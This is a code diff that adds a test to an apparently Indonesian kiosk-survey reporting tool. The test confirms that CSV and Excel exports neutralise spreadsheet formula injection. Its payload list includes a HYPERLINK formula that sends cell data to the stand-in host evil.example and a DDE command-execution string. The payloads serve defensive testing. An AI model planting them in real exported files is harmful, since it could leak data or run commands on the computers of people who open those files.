@@ -60,3 +60,52 @@ def test_csv_files_match_the_ranking_table(tmp_path: Path, demo_merged: Path) ->
     for name in ("agencies", "innovations", "comments", "anomalies", "excluded", "sources"):
         header = (tmp_path / f"{name}.csv").read_text(encoding="utf-8-sig").splitlines()[0]
         assert header
+
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_no_cell_of_the_csv_files_or_the_workbook_runs_as_a_formula(tmp_path: Path) -> None:
+    from kiosk.booth import Booth
+    from kiosk.domain.clock import ManualClock
+    from kiosk.results.collect import merge_kiosk_files
+    from tests.helpers import make_booth_db
+    from tests.results.kiosks import OPENING, visit
+
+    db = make_booth_db(tmp_path / "booth.sqlite")
+    booth = Booth(db, "DPUPR", ManualClock(OPENING))
+    for payload in PAYLOADS:
+        slug = booth.innovations[0].slug
+        visit(booth, booth.clock, [slug], rating=2, comment=payload)  # type: ignore[arg-type]
+    db.close()
+    out = tmp_path / "festival.sqlite"
+    merge_kiosk_files(out, [tmp_path / "booth.sqlite"], workers=1)
+    report = tmp_path / "laporan"
+    write_report(out, report)
+    with open(report / "comments.csv", encoding="utf-8-sig", newline="") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    for payload in PAYLOADS:  # (the booth strips a comment's surrounding whitespace)
+        assert "'" + payload.strip() in cells  # shown as text, never run
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not [c for c in cells if c.startswith("-") and not _number(c)]
+    workbook = load_workbook(report / "hasil-festival.xlsx")
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
